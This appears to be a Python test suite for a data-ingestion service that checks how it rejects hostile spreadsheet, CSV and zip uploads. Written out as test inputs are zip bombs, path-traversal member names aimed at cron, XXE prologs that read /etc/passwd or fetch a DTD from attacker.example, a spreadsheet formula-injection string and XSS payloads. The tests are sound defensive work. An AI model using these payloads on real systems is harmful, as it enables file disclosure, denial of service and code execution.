"""Every door a hostile file could come through, closed (issue 29): each test builds its file on the fly
and asserts the rejection and the words of its report. Memory and time are measured in `make bench`."""

from __future__ import annotations

import json
import os
import zipfile

import duckdb
import pytest

from sendboard import config
from sendboard.contract import SOURCES
from sendboard.devtools import hostile
from sendboard.errors import FileRejected, PeriodRejected, ReferenceFileRejected
from sendboard.ingest import dfe, dfe_landing
from sendboard.ingest.inbox import Inbox
from sendboard.ingest.landing import land_period, quarantine_folder, raw_folder
from sendboard.ingest.readers import read_file
from sendboard.ingest.workbook import Workbook
from sendboard.operations import alerts
from tests.support.helpers import NHS_A, NHS_B, REFERRAL_HEADER, csv_bytes, referral, write, write_xlsx

REFERRALS = SOURCES["health_waiting_lists"].table("referrals")
PERIOD = "2025-03"
LABEL = f"health_waiting_lists/{PERIOD}/referrals.xlsx"


def row(referral_id: str, nhs: str = NHS_A) -> list[str | None]:
    return [referral(referral_id, nhs)[c] or None for c in REFERRAL_HEADER]


def problem(path, suffix=".xlsx") -> tuple[str, str]:
    with pytest.raises(FileRejected) as rejected:
        read_file(duckdb.connect(), path, suffix, REFERRALS, LABEL)
    [found] = rejected.value.problems
    assert NHS_A not in str(rejected.value) and NHS_B not in str(rejected.value)
    return found.rule, found.detail


def rows_read(path, suffix=".xlsx") -> list[tuple]:
    con = duckdb.connect()
    raw = read_file(con, path, suffix, REFERRALS, LABEL)
    return con.execute(f"select _row, referral_id from {raw.relation} order by _row").fetchall()


# --- zips: the directory first, then inflating under a cap -------------------------------------------


def test_a_zip_bomb_is_refused_from_its_directory_before_anything_is_inflated(tmp_path):
    # 200 MiB of x's in one cell of an extra column deflate to about 200 kB: over 1,000 to 1
    path = hostile.write_workbook(
        tmp_path / "referrals.xlsx", hostile.bomb_sheet(REFERRAL_HEADER, row("F1"), 200 << 20)
    )
    assert path.stat().st_size < 400_000
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    ratio = info.file_size / info.compress_size
    assert ratio > 1000
    rule, detail = problem(path)
    assert rule == "compression_ratio"
    assert detail == (
        f"member 'xl/worksheets/sheet1.xml' inflates {ratio:,.0f} to 1 ({info.compress_size:,} bytes to "
        "200.0 MB), more than the 100 to 1 allowed (setting SENDBOARD_MAX_ZIP_RATIO=100); real files stay under "
        "30 to 1"
    )


def test_the_ratio_bound_holds_at_its_setting(tmp_path, monkeypatch):
    # the same 2 MiB sheet is read at a bound above its ratio and refused at one below it
    path = hostile.write_workbook(tmp_path / "referrals.xlsx", hostile.bomb_sheet(REFERRAL_HEADER, row("F1"), 2 << 20))
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    ratio = info.file_size / info.compress_size
    monkeypatch.setenv("SENDBOARD_MAX_CELL_CHARS", str(3 << 20))
    monkeypatch.setenv("SENDBOARD_MAX_ZIP_RATIO", str(int(ratio) + 1))
    assert rows_read(path) == [(2, "F1")]  # the extra column is ignored
    monkeypatch.setenv("SENDBOARD_MAX_ZIP_RATIO", str(int(ratio)))
    assert problem(path)[0] == "compression_ratio"


def test_a_member_larger_than_its_directory_says_is_stopped_at_the_declared_size(tmp_path, monkeypatch):
    # the directory declares 1,000 bytes for a 3 MiB sheet, so its ratio looks harmless; inflating stops
    # at 1,000 bytes and the CRC of what was read does not match
    path = hostile.write_workbook(tmp_path / "referrals.xlsx", hostile.bomb_sheet(REFERRAL_HEADER, row("F1"), 3 << 20))
    hostile.declare_smaller(path, "xl/worksheets/sheet1.xml", 1_000)
    assert zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml").file_size == 1_000
    rule, detail = problem(path)
    assert rule == "unreadable_file"
    assert detail.startswith(
        "member 'xl/worksheets/sheet1.xml' cannot be inflated as its directory entry describes (BadZipFile: Bad CRC-32"
    )


def test_a_member_over_the_inflated_bound_is_refused(tmp_path, monkeypatch):
    # 1,200 rows of distinct ids compress about 10:1 (under the ratio bound) and inflate past 1 MB
    rows = [REFERRAL_HEADER] + [row(f"REF{i:07d}-{i * 7919 % 100_003:06d}") for i in range(12_000)]
    path = hostile.write_workbook(tmp_path / "referrals.xlsx", hostile.sheet_xml(rows))
    size = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml").file_size
    assert size > 1 << 20
    monkeypatch.setenv("SENDBOARD_MAX_UNZIPPED_MB", "1")
    assert problem(path) == (
        "member_too_large",
        f"member 'xl/worksheets/sheet1.xml' inflates to {size / 2**20:,.1f} MB, more than the 1.0 MB allowed "
        "(setting SENDBOARD_MAX_UNZIPPED_MB=1)",
    )


def test_the_member_count_is_read_from_the_end_record_and_held_to_its_bound(tmp_path, monkeypatch):
    path = hostile.write_workbook(tmp_path / "referrals.xlsx", hostile.sheet_xml([REFERRAL_HEADER, row("F1")]))
    assert len(zipfile.ZipFile(path).namelist()) == 5
    monkeypatch.setenv("SENDBOARD_MAX_ZIP_MEMBERS", "5")
    assert rows_read(path) == [(2, "F1")]
    monkeypatch.setenv("SENDBOARD_MAX_ZIP_MEMBERS", "4")
    rule, detail = problem(path)
    assert rule == "too_many_members"
    assert detail.startswith("the zip directory lists 5 members (")
    assert detail.endswith("more than the 4 allowed (setting SENDBOARD_MAX_ZIP_MEMBERS=4)")


@pytest.mark.parametrize("name", ["../../evil.sh", "xl/../../evil.sh", "/etc/cron.d/evil", "C:/evil.bat", "..\\evil"])
def test_a_member_name_leading_outside_its_folder_refuses_the_whole_file(tmp_path, name):
    path = hostile.write_workbook(
        tmp_path / "referrals.xlsx",
        hostile.sheet_xml([REFERRAL_HEADER, row("F1")]),
        extra_members={name: b"echo owned"},
    )
    assert problem(path) == (
        "unsafe_member_name",
        f"member {name!r} has a name that leads outside its folder (.., an absolute path or a drive letter); "
        "the file is refused whole",
    )
    assert not (tmp_path.parent / "evil.sh").exists()


# --- XML: no DOCTYPE, so no entity --------------------------------------------------------------------


@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
        b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">',
    ],
    ids=["billion_laughs", "external_entity", "external_dtd"],
)
def test_a_doctype_in_any_part_is_refused_before_an_entity_is_read(tmp_path, prolog):
    refused = (
        "doctype_refused",
        "an XML part declares a DOCTYPE, which no workbook needs; refused",
    )
    rows = [REFERRAL_HEADER, row("F1")]
    in_sheet = hostile.write_workbook(tmp_path / "sheet.xlsx", hostile.sheet_xml(rows, prolog=prolog))
    assert problem(in_sheet) == refused
    in_workbook = hostile.write_workbook(
        tmp_path / "book.xlsx",
        hostile.sheet_xml(rows),
        workbook=hostile.WORKBOOK.replace(b"<workbook ", prolog + b"<workbook ", 1),
    )
    assert problem(in_workbook) == refused


# --- cells, rows and columns, counted while streaming ---------------------------------------------------


def test_a_cell_over_the_bound_is_refused_and_one_at_it_is_read(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_CELL_CHARS", "100")
    at_bound = hostile.write_workbook(tmp_path / "a.xlsx", hostile.sheet_xml([REFERRAL_HEADER, row("F" * 100)]))
    assert rows_read(at_bound) == [(2, "F" * 100)]
    over = hostile.write_workbook(tmp_path / "b.xlsx", hostile.sheet_xml([REFERRAL_HEADER, row("F" * 101)]))
    assert problem(over) == (
        "cell_too_long",
        "sheet 'Export', cell at row 2, column 1 holds more than 100 characters, the most allowed "
        "(setting SENDBOARD_MAX_CELL_CHARS=100)",
    )
    shared = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        + b"x" * 101
        + b"</t></si></sst>"
    )
    in_shared = hostile.write_workbook(tmp_path / "c.xlsx", hostile.sheet_xml([REFERRAL_HEADER, row("F1")]), shared)
    assert problem(in_shared) == (
        "cell_too_long",
        "shared string 1 holds more than 100 characters, the most allowed (setting SENDBOARD_MAX_CELL_CHARS=100)",
    )


def test_shared_strings_over_their_bound_are_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_SHARED_STRINGS_MB", "1")
    items = b"".join(b"<si><t>%07d%s</t></si>" % (i, b"y" * 93) for i in range(11_000))  # 1,100,000 characters
    shared = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + items + b"</sst>"
    path = hostile.write_workbook(tmp_path / "referrals.xlsx", hostile.sheet_xml([REFERRAL_HEADER, row("F1")]), shared)
    assert problem(path) == (
        "shared_strings_too_large",
        "the workbook's shared strings hold more than 1.0 MB of text, the most allowed "
        "(setting SENDBOARD_MAX_SHARED_STRINGS_MB=1)",
    )


def test_rows_over_the_bound_are_refused_in_a_workbook_and_a_csv(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_ROWS", "3")
    three = [REFERRAL_HEADER, row("F1"), row("F2"), row("F3")]
    path = hostile.write_workbook(tmp_path / "three.xlsx", hostile.sheet_xml(three))
    assert rows_read(path) == [(2, "F1"), (3, "F2"), (4, "F3")]
    path = hostile.write_workbook(tmp_path / "four.xlsx", hostile.sheet_xml([*three, row("F4")]))
    assert problem(path) == (
        "too_many_rows",
        "sheet 'Export' has a row numbered 5, more than the 3 data rows allowed below a header "
        "(setting SENDBOARD_MAX_ROWS=3; an XLSX sheet holds at most 1,048,576 rows)",
    )
    csv_three = write(tmp_path / "three.csv", csv_bytes(REFERRAL_HEADER, [referral(f"F{i}") for i in (1, 2, 3)]))
    assert rows_read(csv_three, ".csv") == [(2, "F1"), (3, "F2"), (4, "F3")]
    csv_four = write(tmp_path / "four.csv", csv_bytes(REFERRAL_HEADER, [referral(f"F{i}") for i in (1, 2, 3, 4)]))
    assert problem(csv_four, ".csv") == (
        "too_many_rows",
        "the file holds 4 data rows, more than the 3 allowed (setting SENDBOARD_MAX_ROWS=3)",
    )


def test_columns_over_the_bound_are_refused_in_a_workbook_and_a_csv(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_COLUMNS", "10")  # the 9 columns of referrals and one extra
    ten = [*REFERRAL_HEADER, "notes"]
    path = hostile.write_workbook(tmp_path / "ten.xlsx", hostile.sheet_xml([ten, [*row("F1"), "n"]]))
    assert rows_read(path) == [(2, "F1")]
    path = hostile.write_workbook(tmp_path / "eleven.xlsx", hostile.sheet_xml([[*ten, "more"], row("F1")]))
    assert problem(path) == (
        "too_many_columns",
        "sheet 'Export' has a value in column 11, more than the 10 columns allowed (setting SENDBOARD_MAX_COLUMNS=10)",
    )
    csv_eleven = write(tmp_path / "eleven.csv", (",".join([*ten, "more"]) + "\r\n" + "F1" + "," * 10 + "\r\n").encode())
    assert problem(csv_eleven, ".csv") == (
        "too_many_columns",
        "the header has 11 columns, more than the 10 allowed (setting SENDBOARD_MAX_COLUMNS=10)",
    )


def test_a_declared_sheet_size_is_a_reason_to_refuse_early_never_a_promise(tmp_path):
    rows = [REFERRAL_HEADER, row("F1"), row("F2")]
    declared_huge = hostile.write_workbook(tmp_path / "huge.xlsx", hostile.sheet_xml(rows, dimension="A1:XFD1048576"))
    assert problem(declared_huge) == (
        "too_many_columns",
        "sheet 'Export' declares 16,384 columns (A1:XFD1048576), more than the 1,000 columns allowed "
        "(setting SENDBOARD_MAX_COLUMNS=1000)",
    )
    # a sheet that declares one cell but holds three rows is read whole (the NHS workbooks do this)
    declared_tiny = hostile.write_workbook(tmp_path / "tiny.xlsx", hostile.sheet_xml(rows, dimension="A1:A1"))
    assert rows_read(declared_tiny) == [(2, "F1"), (3, "F2")]


def test_a_far_cell_cannot_make_a_grid_of_billions(tmp_path):
    # calamine would have made a dense grid of 1,048,576 x 16,384 cells for these two values
    sheet = hostile.sheet_xml([REFERRAL_HEADER, row("F1")]).replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    path = hostile.write_workbook(tmp_path / "far.xlsx", sheet)
    assert problem(path) == (
        "too_many_columns",
        "sheet 'Export' has a value in column 16,384, more than the 1,000 columns allowed "
        "(setting SENDBOARD_MAX_COLUMNS=1000)",
    )


def test_a_csv_header_longer_than_a_record_is_refused_without_reading_the_line_whole(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_RECORD_MB", "1")
    path = write(tmp_path / "referrals.csv", ",".join(REFERRAL_HEADER).encode() + b"," + b"x" * (2 << 20))
    assert problem(path, ".csv") == (
        "record_too_long",
        "the header record is longer than 1 MB, the most allowed (setting SENDBOARD_MAX_RECORD_MB=1)",
    )


# --- kinds by content ---------------------------------------------------------------------------------


def test_a_file_is_read_as_what_it_holds_whatever_its_name(tmp_path):
    workbook_named_csv = write_xlsx(tmp_path / "book.xlsx", REFERRAL_HEADER, [row("F1"), row("F2", NHS_B)])
    renamed = write(tmp_path / "referrals.csv", workbook_named_csv.read_bytes())
    assert rows_read(renamed, ".csv") == [(2, "F1"), (3, "F2")]
    csv_named_xlsx = write(tmp_path / "referrals.xlsx", csv_bytes(REFERRAL_HEADER, [referral("F1")]))
    assert rows_read(csv_named_xlsx, ".xlsx") == [(2, "F1")]
    xls = write(tmp_path / "old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    assert problem(xls) == (
        "wrong_format",
        "the file is an Excel 97-2003 workbook (.xls) or another Office binary file; save it as .xlsx or CSV",
    )
    not_a_workbook = tmp_path / "zip.xlsx"
    with zipfile.ZipFile(not_a_workbook, "w") as archive:
        archive.writestr("data/referrals.csv", "referral_id\r\n")
    assert problem(not_a_workbook) == (
        "wrong_format",
        "the file is a zip but not an Excel workbook (no [Content_Types].xml)",
    )


# --- the landing: size before reading, links, quarantine by streaming ------------------------------------


def _land(inbox_root, home):
    return land_period(Inbox(str(inbox_root)), "health_waiting_lists", PERIOD, home, config.pseudonymisation_key())


def test_a_file_over_the_size_bound_is_quarantined_by_streaming_with_the_bound_in_its_report(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_FILE_MB", "1")
    rows = [referral(f"F{i:06d}") for i in range(20_000)]  # 20,000 rows of 61 bytes: over 1 MiB
    sent = write(
        tmp_path / "inbox" / "health_waiting_lists" / PERIOD / "referrals.csv", csv_bytes(REFERRAL_HEADER, rows)
    )
    size = sent.stat().st_size
    assert size > 1 << 20
    with pytest.raises(PeriodRejected) as rejected:
        _land(tmp_path / "inbox", tmp_path / "home")
    detail = f"the file is {size / 2**20:,.1f} MB, more than the 1.0 MB allowed (setting SENDBOARD_MAX_FILE_MB=1)"
    assert f"health_waiting_lists/{PERIOD}/referrals.csv rejected: rule file_too_large: {detail}" in str(rejected.value)
    quarantine = quarantine_folder(tmp_path / "home", "health_waiting_lists", PERIOD)
    assert (quarantine / "referrals.csv").read_bytes() == sent.read_bytes()
    report = json.loads((quarantine / "referrals.csv.report.json").read_text())
    assert (report["bytes"], report["copied"], report["problems"][0]["detail"]) == (size, True, detail)
    assert not raw_folder(tmp_path / "home", "health_waiting_lists", PERIOD).exists()


def test_a_link_out_of_the_inbox_is_not_followed_and_a_link_within_it_is(tmp_path):
    outside = write(tmp_path / "elsewhere" / "secret.csv", csv_bytes(REFERRAL_HEADER, [referral("SECRET1")]))
    folder = tmp_path / "inbox" / "health_waiting_lists" / PERIOD
    folder.mkdir(parents=True)
    os.symlink(outside, folder / "referrals.csv")
    home = tmp_path / "home"
    with pytest.raises(PeriodRejected) as rejected:
        _land(tmp_path / "inbox", home)
    assert "rule link_outside_inbox: the file is a link (or sits in a linked folder) leading outside the inbox" in str(
        rejected.value
    )
    quarantine = quarantine_folder(home, "health_waiting_lists", PERIOD)
    assert not (quarantine / "referrals.csv").exists()  # nothing was read from outside, so nothing copied
    report = json.loads((quarantine / "referrals.csv.report.json").read_text())
    assert (report["copied"], report["sha256"], report["bytes"]) == (False, None, None)
    assert "not followed, so not copied" in (quarantine / "referrals.csv.report.txt").read_text()
    assert "SECRET1" not in (quarantine / "referrals.csv.report.txt").read_text()
    # a link to a file inside the inbox is followed
    (folder / "referrals.csv").unlink()
    inside = write(tmp_path / "inbox" / "uploads" / "referrals.csv", csv_bytes(REFERRAL_HEADER, [referral("F1")]))
    os.symlink(inside, folder / "referrals.csv")
    assert _land(tmp_path / "inbox", home).manifest["tables"]["referrals"]["rows_landed"] == 1


def test_a_workbook_named_csv_lands_as_a_workbook_and_the_manifest_says_so(tmp_path):
    book = write_xlsx(tmp_path / "book.xlsx", REFERRAL_HEADER, [row("F1")])
    write(tmp_path / "inbox" / "health_waiting_lists" / PERIOD / "referrals.csv", book.read_bytes())
    table = _land(tmp_path / "inbox", tmp_path / "home").manifest["tables"]["referrals"]
    assert (table["file"], table["format"], table["rows_landed"]) == ("referrals.csv", "xlsx", 1)


# --- the DfE files -------------------------------------------------------------------------------------


def _dfe_inbox(tmp_path):
    folder = tmp_path / "inbox" / "dfe_statistics"
    folder.mkdir(parents=True)
    return folder


def test_a_dfe_zip_bomb_is_recorded_as_rejected_and_alerts(tmp_path):
    folder = _dfe_inbox(tmp_path)
    with (
        zipfile.ZipFile(folder / "release.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("data/caseload.csv", "w") as member,
    ):
        for chunk in hostile.repeated(b" ", 64 << 20):
            member.write(chunk)
    home = tmp_path / "home"
    with pytest.raises(ReferenceFileRejected) as rejected:
        dfe_landing.land(str(tmp_path / "inbox"), home)
    [record] = dfe_landing.files_seen(dfe_landing.raw_folder(home)).values()
    assert record["status"] == "rejected" and record["name"] == "release.zip"
    assert "rule compression_ratio: member 'data/caseload.csv' inflates" in record["detail"]
    assert "(setting SENDBOARD_MAX_ZIP_RATIO=100)" in record["detail"]
    assert "1 DfE file(s) rejected" in str(rejected.value)


def test_a_dfe_table_over_the_reference_bound_is_rejected(tmp_path, monkeypatch):
    monkeypatch.setenv("SENDBOARD_MAX_REFERENCE_MB", "1")
    folder = _dfe_inbox(tmp_path) / "release" / "data"
    folder.mkdir(parents=True)
    write(folder / "timeliness_20_week.csv", b"time_period\r\n" + b"202425\r\n" * 200_000)
    with pytest.raises(ReferenceFileRejected):
        dfe_landing.land(str(tmp_path / "inbox"), tmp_path / "home")
    [record] = dfe_landing.files_seen(dfe_landing.raw_folder(tmp_path / "home")).values()
    assert record["detail"] == (
        "release: rule file_too_large: data/timeliness_20_week.csv is 1.5 MB, more than the 1.0 MB allowed "
        "(setting SENDBOARD_MAX_REFERENCE_MB=1)"
    )


def test_a_dfe_zip_with_a_member_leading_outside_is_refused_whole(tmp_path):
    path = tmp_path / "release.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("data/requests.csv", "time_period\r\n")
        archive.writestr("data/../../../etc/cron.d/evil", "* * * * * root sh")
    with pytest.raises(ReferenceFileRejected) as rejected:
        dfe.read_release(path)
    assert str(rejected.value) == (
        "release.zip: rule unsafe_member_name: member 'data/../../../etc/cron.d/evil' has a name that leads "
        "outside its folder (.., an absolute path or a drive letter); the file is refused whole"
    )


def test_a_dfe_workbook_is_known_by_its_content_and_its_doctype_refused(tmp_path):
    sheet = hostile.sheet_xml(
        [["LA num", *[f"SN{i}" for i in range(1, 11)]], ["931", *[str(900 + i) for i in range(10)]]]
    )
    workbook = hostile.WORKBOOK.replace(b'name="Export"', b'name="LA SN Groups"')
    renamed = hostile.write_workbook(tmp_path / "neighbours.zip", sheet, workbook=workbook)
    assert dfe.kind_of(renamed) == "neighbours"
    assert dfe.read_neighbours(renamed) == {"931": [str(900 + i) for i in range(10)]}
    hostile_book = hostile.write_workbook(
        tmp_path / "n.xlsx",
        hostile.sheet_xml([["LA num"]], prolog=b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        workbook=workbook,
    )
    with pytest.raises(ReferenceFileRejected) as rejected:
        dfe.read_neighbours(hostile_book)
    assert str(rejected.value) == (
        "n.xlsx: rule doctype_refused: an XML part declares a DOCTYPE, which no workbook needs; refused"
    )


# --- text from a file, escaped where it lands -------------------------------------------------------------


def test_a_column_name_from_a_file_reaches_a_report_with_its_control_characters_shown(tmp_path):
    header = [*REFERRAL_HEADER, "=cmd|'/C calc'!A0\r\nrule ok", "=cmd|'/C calc'!A0\r\nrule ok"]
    path = write(tmp_path / "referrals.csv", csv_bytes(header, [referral("F1")]))
    rule, detail = problem(path, ".csv")
    assert rule == "duplicate_column"
    # names are compared lower-cased; the report shows the line break as \r\n, never as one
    assert detail.startswith("column \"=cmd|'/c calc'!a0\\\\r\\\\nrule ok\" appears twice")
    assert "\r" not in detail and "\n" not in detail


def test_a_webhook_alert_shows_a_file_name_as_text_never_as_a_link_or_a_mention(tmp_path):
    folder = _dfe_inbox(tmp_path)
    write(folder / "[release](javascript:alert(1)) <!channel> *now*.zip", b"<html>not a zip</html>")
    with pytest.raises(ReferenceFileRejected) as rejected:
        dfe_landing.land(str(tmp_path / "inbox"), tmp_path / "home")
    text = alerts.markdown_text(str(rejected.value))
    assert "\\[release\\]\\(javascript:alert\\(1\\)\\) &lt;\\!channel&gt; \\*now\\*.zip: is not a zip file" in text
    assert "](" not in text and "<!" not in text


def test_the_real_workbooks_read_cell_for_cell_as_calamine_reads_them():
    # the streaming reader replaced calamine: on the DfE and NHS workbooks, every sheet gives the same cells
    from pathlib import Path

    from python_calamine import CalamineWorkbook

    reference = Path(__file__).resolve().parents[3] / "shared" / "reference_data"
    books = sorted(reference.glob("*/*.xlsx"))
    assert len(books) == 5
    for path in books:
        theirs = CalamineWorkbook.from_path(str(path))
        with Workbook(path, config.input_bounds()) as ours:
            assert ours.sheet_names == theirs.sheet_names
            for name in ours.sheet_names:
                sheet = theirs.get_sheet_by_name(name)
                first_row, first_column = sheet.start or (0, 0)
                expected = {}
                for offset, cells in enumerate(sheet.to_python()):
                    values = [None] * first_column + [None if v == "" else v for v in cells]
                    while values and values[-1] is None:
                        values.pop()
                    if values:
                        expected[first_row + offset + 1] = values
                assert dict(ours.rows(name)) == expected, (path.name, name)


def test_text_from_a_dfe_file_reaches_the_pack_as_text(tmp_path):
    # a region name, a release's name and a rejected file's name come from the DfE files the council drops in
    from sendboard.publish.comparators_pack import Comparisons, section

    hostile_text = '<img src=x onerror="alert(1)">'
    row = {
        "kpi_id": "T2_EHCP_20WK_EXCL_R12", "comparator": "REGION", "comparator_name": hostile_text,
        "comparator_period": "2024", "value": "50.0", "numerator": "", "denominator": "", "note": "",
        "neighbours_with_value": "", "source": f"release {hostile_text}",
    }  # fmt: skip
    page = section([], Comparisons([row], [f"The DfE file {hostile_text}.zip was rejected"]))
    assert "<img" not in page
    assert page.count("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;") == 3
